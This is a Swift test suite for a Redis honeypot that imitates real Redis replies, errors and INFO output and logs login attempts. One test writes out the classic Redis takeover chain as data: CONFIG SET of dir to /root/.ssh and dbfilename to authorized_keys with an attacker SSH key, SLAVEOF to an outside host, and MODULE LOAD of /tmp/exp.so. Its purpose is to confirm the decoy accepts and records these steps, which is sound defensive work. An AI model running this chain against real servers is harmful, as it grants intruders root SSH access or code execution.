import DecnetCore
import DecnetServiceKit
import Testing

@testable import DecnetServices

@Suite struct RedisStateMachineTests {
    static func machine(password: String? = nil) throws -> RedisStateMachine {
        var persona = ["redis_version": "7.2.4"]
        persona["redis_password"] = password
        let service = try RedisService(
            context: ServiceContext(
                decky: "d",
                hostname: "h",
                service: "redis",
                persona: persona,
                sink: DiscardingEventSink()
            )
        )
        return RedisStateMachine(configuration: service.configuration, keyspace: service.keyspace)
    }

    static func command(_ words: String...) -> RedisRequest { .command(words.map { Array($0.utf8) }) }

    static func replies(_ actions: [RedisStateMachine.Action]) -> [RESPValue] {
        actions.compactMap { if case .reply(let value) = $0 { value } else { nil } }
    }

    static func events(_ actions: [RedisStateMachine.Action]) -> [(EventID, [EventField])] {
        actions.compactMap { if case .emit(let id, let fields) = $0 { (id, fields.fields) } else { nil } }
    }

    /// Debian 12's Redis 7.0.15 as the harness measured it: INFO's sections and fields in their order, the
    /// package's build id, COMMAND COUNT of the release's table; redis_seed_keys = no starts empty.
    @Test func infoAndCountsAreTheReleases() throws {
        let service = try RedisService(
            context: ServiceContext(
                decky: "d",
                hostname: "h",
                service: "redis",
                persona: ["redis_version": "7.0.15", "redis_seed_keys": "no"],
                sink: DiscardingEventSink()
            )
        )
        var machine = RedisStateMachine(configuration: service.configuration, keyspace: service.keyspace)
        guard case .bulk(let bytes) = Self.replies(machine.received(Self.command("INFO"))).first else {
            Issue.record("INFO is not a bulk string")
            return
        }
        let info = String(decoding: bytes, as: UTF8.self)
        let sections = info.split(separator: "\r\n").filter { $0.hasPrefix("# ") }
        #expect(
            sections == [
                "# Server", "# Clients", "# Memory", "# Persistence", "# Stats", "# Replication", "# CPU", "# Modules",
                "# Errorstats", "# Cluster", "# Keyspace",
            ]
        )
        #expect(info.contains("\r\nredis_build_id:ae4d7c971a948f0\r\n") && info.contains("\r\nlru_clock:"))
        #expect(info.contains("\r\nused_memory_vm_total_human:65.00K\r\n") && info.hasSuffix("# Keyspace\r\n"))
        #expect(Self.replies(machine.received(Self.command("COMMAND", "COUNT"))) == [.integer(240)])
        #expect(Self.replies(machine.received(Self.command("DBSIZE"))) == [.integer(0)])
    }

    @Test func openInstanceRecordsAuthAsAFailedLogin() throws {
        var machine = try Self.machine()
        let actions = machine.received(Self.command("AUTH", "hunter2"))
        #expect(
            Self.replies(actions) == [
                .error(
                    "ERR AUTH <password> called without any password configured for the default user. Are you sure your configuration is correct?"
                )
            ]
        )
        let events = Self.events(actions)
        #expect(events.map(\.0) == [.loginFailed])
        #expect(events[0].1.contains(EventField("password", "hunter2")))
        #expect(events[0].1.contains(EventField("password_b64", "aHVudGVyMg==")))
        #expect(Self.replies(machine.received(Self.command("PING"))) == [.simple("PONG")])
        // AUTH with a user name goes through the ACL even without requirepass (Redis 7.0, bench/differential).
        #expect(
            Self.replies(machine.received(Self.command("AUTH", "admin", "hunter2")))
                == [.error("WRONGPASS invalid username-password pair or user is disabled.")]
        )
    }

    @Test func passwordProtectedInstance() throws {
        var machine = try Self.machine(password: "s3cret")
        #expect(Self.replies(machine.received(Self.command("GET", "k"))) == [.error("NOAUTH Authentication required.")])
        let wrong = machine.received(Self.command("AUTH", "default", "nope"))
        #expect(Self.replies(wrong) == [.error("WRONGPASS invalid username-password pair or user is disabled.")])
        #expect(Self.events(wrong).map(\.0) == [.loginFailed])
        let right = machine.received(Self.command("AUTH", "s3cret"))
        #expect(Self.replies(right) == [.simple("OK")])
        #expect(Self.events(right).map(\.0) == [.loginSuccess])
        #expect(Self.replies(machine.received(Self.command("GET", "nothing"))) == [.null])
    }

    @Test func helloSwitchesProtocolAndCanAuthenticate() throws {
        var machine = try Self.machine(password: "pw")
        let actions = machine.received(Self.command("HELLO", "3", "AUTH", "default", "pw", "SETNAME", "x"))
        #expect(actions.contains(.useRESP3(true)))
        #expect(Self.events(actions).map(\.0) == [.loginSuccess])
        #expect(
            Self.replies(machine.received(Self.command("HELLO", "4"))) == [
                .error("NOPROTO unsupported protocol version")
            ]
        )
    }

    @Test func theExploitationChainIsAcceptedAndRecorded() throws {
        var machine = try Self.machine()
        let steps = [
            Self.command("CONFIG", "SET", "dir", "/root/.ssh"),
            Self.command("CONFIG", "SET", "dbfilename", "authorized_keys"),
            Self.command("SET", "x", "\n\nssh-rsa AAAA attacker\n\n"),
            Self.command("SAVE"),
            Self.command("SLAVEOF", "10.9.9.9", "8886"),
            Self.command("MODULE", "LOAD", "/tmp/exp.so"),
        ]
        var commands: [String] = []
        var replies: [RESPValue] = []
        for step in steps {
            let actions = machine.received(step)
            commands += Self.events(actions).compactMap { $0.1.first { $0.name == "command" }?.value }
            replies += Self.replies(actions)
        }
        #expect(commands == ["config", "config", "set", "save", "slaveof", "module"])
        #expect(replies.prefix(5) == [.simple("OK"), .simple("OK"), .simple("OK"), .simple("OK"), .simple("OK")])
        #expect(
            Self.replies(machine.received(Self.command("CONFIG", "GET", "dir"))) == [
                .array([.bulk("dir"), .bulk("/root/.ssh")])
            ]
        )
    }

    @Test func errorsUseRedisWording() throws {
        var machine = try Self.machine()
        #expect(
            Self.replies(machine.received(Self.command("GET"))) == [
                .error("ERR wrong number of arguments for 'get' command")
            ]
        )
        #expect(
            Self.replies(machine.received(Self.command("FLY", "a", "b"))) == [
                .error("ERR unknown command 'FLY', with args beginning with: 'a' 'b' ")
            ]
        )
        #expect(
            Self.replies(machine.received(Self.command("SELECT", "99"))) == [.error("ERR DB index is out of range")]
        )
    }

    @Test func nonPrintableArgumentsAreKeptLosslessly() throws {
        var machine = try Self.machine()
        let actions = machine.received(.command([Array("SET".utf8), [0x00, 0x0A], [0xFF]]))
        let fields = Self.events(actions)[0].1
        #expect(fields.contains(EventField("args", "\\x00\\n \\xff")))
        #expect(fields.contains(EventField("args_b64", "AAog/w==")))
    }

    @Test func afterQuitOrAProtocolErrorNothingIsServed() throws {
        var machine = try Self.machine()
        #expect(machine.received(Self.command("QUIT")).contains(.close))
        #expect(machine.received(Self.command("PING")).isEmpty)
        var broken = try Self.machine()
        let actions = broken.received(.protocolError("invalid bulk length"))
        #expect(Self.replies(actions) == [.error("ERR Protocol error: invalid bulk length")])
        #expect(actions.last == .close)
        #expect(Self.events(actions).map(\.0) == [.clientMalformed])
    }

    @Test func keyspaceIsBounded() throws {
        var machine = try Self.machine()
        let big = String(repeating: "x", count: 1 << 20)
        var outOfMemory = false
        for index in 0..<40 {
            if Self.replies(machine.received(Self.command("SET", "k\(index)", big))).first
                == .error("OOM command not allowed when used memory > 'maxmemory'.")
            {
                outOfMemory = true
                break
            }
        }
        #expect(outOfMemory)
    }

    @Test func globMatching() {
        func match(_ pattern: String, _ text: String) -> Bool {
            GlobPattern.matches(Array(pattern.utf8), Array(text.utf8))
        }
        #expect(match("*", "anything"))
        #expect(match("sess*", "session:admin"))
        #expect(match("h?llo", "hello"))
        #expect(match("h[ae]llo", "hallo"))
        #expect(!match("h[^e]llo", "hello"))
        #expect(match("h[a-c]llo", "hbllo"))
        #expect(match("a\\*b", "a*b"))
        #expect(!match("a*b", "acd"))
        #expect(!match(String(repeating: "*a", count: 200) + "b", String(repeating: "a", count: 400)))
    }
}
